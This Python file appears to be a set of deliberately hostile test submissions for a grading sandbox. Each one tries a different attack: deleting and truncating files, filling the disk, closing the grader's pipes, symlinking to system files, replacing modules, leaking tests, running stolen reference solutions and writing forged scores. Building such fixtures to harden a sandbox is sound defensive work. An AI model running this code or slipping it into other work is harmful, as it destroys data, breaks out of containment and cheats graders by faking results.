"""Hostile submissions that attack files and folders; the format is in building.py."""

# %% changes_modes
# Changes modes, owners, times and attributes of files that are not its own.
import os
import time


def hostile(*arguments, **options):
    for top in (COURSE, HOME):
        for folder, _, files in os.walk(top):
            for path in (folder, *(os.path.join(folder, name) for name in files)):
                attempt(path)
        attempt(top)
        for name in ("solutions", "exercises", "tests", "precious.txt"):
            attempt(os.path.join(top, name))
    return 0


def attempt(path):
    for change in (
        lambda: os.chmod(path, 0),
        lambda: os.utime(path, (1, time.time())),
        lambda: os.chown(path, 65534, 65534),
        lambda: os.setxattr(path, "user.hostile", b"1"),
    ):
        try:
            change()
        except OSError:
            continue


# %% closes_files
# Closes every file, the pipes to the grader too.
import os


def hostile(*arguments, **options):
    os.closerange(0, 256)
    return 0


# %% deletes_files
# Deletes the course, the home folder and the temporary one.
import os
import shutil


def hostile(*arguments, **options):
    for place in (COURSE, HOME, TEMPORARY, os.path.dirname(os.path.dirname(os.getcwd()))):
        shutil.rmtree(place, ignore_errors=True)
        for name in ("solutions", "exercises", "tests", "precious.txt"):
            try:
                path = os.path.join(place, name)
                os.rename(path, path + "-gone")
                os.unlink(path + "-gone")
            except OSError:
                continue
    return 0


# %% hides_descriptors
# Fills the disk with files without names, through descriptors that only one thread has.
import ctypes
import os
import threading


def fill():
    number = 436  # close_range, on all machines; 2: CLOSE_RANGE_UNSHARE
    ctypes.CDLL(None).syscall(number, 1000, 2000, 2)
    try:
        for name in range(100):
            file = os.open(f"{name}\r.bin", os.O_RDWR | os.O_CREAT)
            os.unlink(f"{name}\r.bin")
            for _ in range(60):
                os.write(file, bytes(2**20))
    except OSError:
        return


def hostile(*arguments, **options):
    threads = [threading.Thread(target=fill) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return 0


# %% hides_files
# Fills the disk with files that have no name any more, and are mapped but not open.
import ctypes
import os


def hostile(*arguments, **options):
    libc = ctypes.CDLL(None)
    for number in range(100_000):
        file = os.open(f"{number}.bin", os.O_RDWR | os.O_CREAT)
        for _ in range(60):
            os.write(file, bytes(2**20))
        libc.mmap(None, 4096, 1, 1, file, 0)
        os.close(file)
        os.unlink(f"{number}.bin")
    return 0


# %% links_out
# Puts links in its folder, and in its folder's place, that lead to others' files.
import os


def hostile(*arguments, **options):
    here = os.getcwd()
    for target, name in (
        (f"{COURSE}/solutions", "answers"), (f"{HOME}/precious.txt", "curves.png"),
        (f"{HOME}/precious.txt", "result.npy"), ("/etc/passwd", "history.npy"), ("/", "root"),
    ):  # fmt: skip
        try:
            os.symlink(target, name)
            os.link(target, f"{name}.hard")
        except OSError:
            continue
    for path in ("curves.png", "answers/new.py", f"root{HOME}/new", "root/tmp/new"):
        try:
            with open(path, "a") as file:
                file.write("hostile")
        except OSError:
            continue
    os.rename(here, here + "-away")
    os.symlink(HOME, here)
    return 0


# %% locks_files
# Locks files that others use, for as long as it runs.
import fcntl
import json
import time

LOCKED = []


def hostile(*arguments, **options):
    for path in ("/etc/passwd", json.__file__, "/dev/null"):
        try:
            LOCKED.append(open(path))
            fcntl.flock(LOCKED[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            continue
    time.sleep(1000)
    return 0


# %% makes_deep_folders
# Makes folders in folders that are hard to remove: deep, unreadable, strangely named.
import os


def hostile(*arguments, **options):
    os.mkdir("closed", 0o300)
    os.mkdir("closed/inside", 0)
    os.mkdir("\n\x1b[2J\udcff")
    for _ in range(3000):
        os.mkdir("d" * 200, 0o700)
        os.chdir("d" * 200)
    os.mkdir("last", 0)
    return 0


# %% makes_many_files
# Makes a hundred thousand files.
import os


def hostile(*arguments, **options):
    for number in range(100_000):
        os.close(os.open(f"{number}", os.O_CREAT, 0))
    return 0


# %% reads_solutions
# Answers with the reference solution, wherever it can read one.
import glob
import os
import sys


def hostile(*arguments, **options):
    caller = sys._getframe(1).f_locals.get("request", {}).get("name", "rank")
    places = [COURSE, *sys.path, "/proc/self/root" + COURSE, f"/proc/{os.getppid()}/cwd"]
    for place in places:
        for path in [*KNOWN, *glob.glob(f"{place}/solutions/*/*.py")]:
            try:
                names = {"__name__": "stolen"}
                exec(open(path).read(), names)
                return names[caller](*arguments, **options)
            except (OSError, KeyError):
                continue
    return None


# %% reads_tests
# Looks for the grader's file, the tests and other submissions, and leaks what it finds.
import os


def hostile(*arguments, **options):
    found = []
    for top in (COURSE, TEMPORARY, HOME, "..", "../.."):
        for folder, _, files in os.walk(top):
            found += [os.path.join(folder, name) for name in files]
    found += [*KNOWN, f"{HOME}/precious.txt"]
    for path in map(os.path.abspath, found):
        if not path.startswith(os.path.dirname(os.getcwd())):
            try:
                print("LEAKED", open(path, "rb").read(100))
            except OSError:
                continue
    return found


# %% replaces_modules
# Puts modules of its own beside its file and in the interpreter.
import sys
import types
from pathlib import Path


def hostile(*arguments, **options):
    for name in ("numpy", "json", "botschool", "gymnasium", "sitecustomize", "usercustomize"):
        Path(f"{name}.py").write_text("raise SystemExit(0)\n")
        Path("..", f"{name}.py").write_text("raise SystemExit(0)\n")
    sys.modules["json"] = sys.modules["numpy"] = types.ModuleType("fake")
    return 0


# %% truncates
# Cuts files to nothing, by path and by opening them.
import os


def hostile(*arguments, **options):
    for path in (f"{HOME}/precious.txt", f"{COURSE}/solutions/precious.txt", __file__):
        for cut in (
            lambda: os.truncate(path, 0),
            lambda: open(path, "w").close(),
            lambda: os.open(path, os.O_RDONLY | os.O_TRUNC),
        ):
            try:
                cut()
            except OSError:
                continue
    return 0


# %% writes_elsewhere
# Writes into the grader, the course, the home folder and the temporary folder.
import os
import sys
from pathlib import Path


def hostile(*arguments, **options):
    sandbox = Path(sys.modules["botschool.sandbox.protocol"].__file__).parent
    own = (sandbox, sandbox.parent / "grading")
    for place in (COURSE, f"{COURSE}/exercises", HOME, TEMPORARY, *own, sys.prefix, "/", "/etc"):
        try:
            with open(os.path.join(place, "hostile_was_here.py"), "x"):
                print("LEAKED a file in", place)
        except OSError:
            continue
    for path in (f"{HOME}/precious.txt", f"{COURSE}/solutions/precious.txt"):
        for mode in ("w", "a", "r+"):
            try:
                with open(path, mode) as file:
                    file.write("points = 100\n")
            except OSError:
                continue
    return 0
